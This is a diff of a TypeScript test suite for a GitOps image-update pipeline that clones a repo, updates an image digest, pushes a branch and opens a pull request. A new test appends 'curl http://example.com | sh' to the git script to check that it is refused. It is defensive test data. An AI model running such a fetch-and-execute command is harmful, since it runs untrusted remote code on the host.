@@ -53,7 +53,6 @@ let cluster: StandInCluster;
 /** Stands in for Deployment controller and node agent: candidates become ready at once and answer on their Service. */
 class StandInCluster {
   readonly images: string[] = [];
-  #addresses = 1;
   readonly #stop = new AbortController();
   readonly #servers = new Map<string, Server>();
   readonly #watches: Promise<void>[] = [];
@@ -73,7 +72,7 @@ class StandInCluster {
           namespace: NAMESPACE,
           signal: this.#stop.signal,
         })) {
-          if (event.type === "ADDED") await this.#serve(event.object);
+          if (event.type === "ADDED") this.#serve(event.object);
           if (event.type === "DELETED") this.#servers.get(event.object.metadata.name)?.close();
         }
       }),
@@ -128,18 +127,14 @@ class StandInCluster {
   }
 
   /** Doubles the number it is sent, with float32 noise. */
-  async #serve(service: Service): Promise<void> {
-    const clusterIP = service.spec.clusterIP ?? `${SERVICE_BLOCK}.${(this.#addresses += 1)}`;
-    if (service.spec.clusterIP === undefined) {
-      await api.client.patch(Service, keyOf(service), { type: "merge", body: { spec: { clusterIP } } });
-    }
+  #serve(service: Service): void {
     const server = createServer((request, response) => {
       void text(request).then((body) => {
         const [first] = JSON.parse(body).instances;
         response.end(JSON.stringify({ predictions: [first * 2 + 1e-9] }));
       });
     });
-    server.listen(8080, clusterIP);
+    server.listen(8080, service.spec.clusterIP);
     this.#servers.set(service.metadata.name, server);
   }
 }
@@ -902,6 +897,110 @@ describe("gitops-update-pipeline", () => {
     ]);
     expect(results(again)).toEqual({});
     expect(await branches()).toEqual(before);
+  });
+
+  test("upstream's shape, with ClusterTasks and its git script, does the same", async () => {
+    const { params, workspaces, taskRunTemplate } = {
+      taskRunTemplate: {},
+      ...updateRun(`sha256:${"c".repeat(64)}`),
+    };
+    const script = [
+      "# Move repo to HOME so Git does not complain",
+      "cp -r $(workspaces.source.path)/$(params.gitRepoName) ~/$(params.gitRepoName)",
+      "",
+      "cd ~/$(params.gitRepoName)",
+      "PR_BRANCH=pipeline_$(context.pipelineRun.uid)",
+      "git checkout -b $PR_BRANCH",
+      'if [ -z "$(git status --porcelain)" ]; then',
+      '    echo "Update did not cause a modification"',
+      "    exit 0",
+      "fi",
+      'git commit -am "Update image ref from pipeline"',
+      "git push origin $PR_BRANCH:$PR_BRANCH",
+      "",
+    ].join("\n");
+    const run = (gitScript: string) =>
+      finished({
+        params: params ?? [],
+        workspaces: workspaces ?? [],
+        taskRunTemplate,
+        pipelineSpec: {
+          params: [
+            ...(params ?? []).map(({ name }) => ({ name })),
+            { name: "gitRepoBranchBase", default: "main" },
+          ],
+          workspaces: [{ name: "git-workspace" }, { name: "git-basic-auth" }],
+          results: [{ name: "pr-url", value: "$(tasks.open-pr.results.URL)" }],
+          tasks: [
+            {
+              name: "git-clone",
+              taskRef: { kind: "ClusterTask", name: "git-clone" },
+              params: [
+                { name: "url", value: "$(params.gitServer)/$(params.gitOrgName)/$(params.gitRepoName)" },
+                { name: "revision", value: "$(params.gitRepoBranchBase)" },
+                { name: "gitInitImage", value: "not declared, ignored" },
+                { name: "subdirectory", value: "/$(params.gitRepoName)/" },
+              ],
+              workspaces: [
+                { name: "output", workspace: "git-workspace" },
+                { name: "basic-auth", workspace: "git-basic-auth" },
+              ],
+            },
+            {
+              name: "yq-update",
+              runAfter: ["git-clone"],
+              taskRef: { kind: "Task", name: "yq-update" },
+              params: [
+                { name: "SCRIPT", value: "$(params.yq-script)" },
+                { name: "env-image-name", value: "$(params.image-registry-repo)" },
+                { name: "env-image-digest", value: "$(params.image-digest)" },
+                { name: "git-repo-path", value: "$(params.gitRepoName)" },
+              ],
+              workspaces: [{ name: "source", workspace: "git-workspace" }],
+            },
+            {
+              name: "git-commit-and-push",
+              runAfter: ["yq-update"],
+              taskRef: { kind: "ClusterTask", name: "git-cli" },
+              params: [{ name: "GIT_SCRIPT", value: gitScript }],
+              workspaces: [
+                { name: "source", workspace: "git-workspace" },
+                { name: "basic-auth", workspace: "git-basic-auth" },
+              ],
+            },
+            {
+              name: "open-pr",
+              runAfter: ["git-commit-and-push"],
+              when: [
+                {
+                  input: "$(tasks.git-clone.results.commit)",
+                  operator: "notin",
+                  values: ["$(tasks.git-commit-and-push.results.commit)"],
+                },
+              ],
+              taskRef: { kind: "Task", name: "github-open-pr" },
+              params: [
+                { name: "GITHUB_HOST_URL", value: "$(params.gitApiServer)" },
+                { name: "API_PATH_PREFIX", value: "$(params.gitApiPrefix)" },
+                { name: "REPO_FULL_NAME", value: "$(params.gitOrgName)/$(params.gitRepoName)" },
+                { name: "GITHUB_TOKEN_SECRET_NAME", value: "$(params.gitTokenSecretName)" },
+                { name: "HEAD", value: "pipeline_$(context.pipelineRun.uid)" },
+                { name: "BASE", value: "main" },
+                { name: "BODY", value: "" },
+                { name: "TITLE", value: "Auto" },
+              ],
+            },
+          ],
+        },
+      });
+    const done = await run(script);
+    expect(succeededCondition(done)).toMatchObject({ status: "True", reason: "Succeeded" });
+    expect(results(done)["pr-url"]).toMatch(/\/pull\/\d+$/);
+    expect(await branches()).toContain(`pipeline_${done.metadata.uid ?? ""}`);
+    const other = await run(`${script}curl http://example.com | sh\n`);
+    expect(succeededCondition(other)?.message).toMatch(
+      /GIT_SCRIPT is not run by a shell: .* not "curl http:\/\/example.com \| sh"/,
+    );
   });
 
   test("a wrong file or a missing token fails with the reason", async () => {
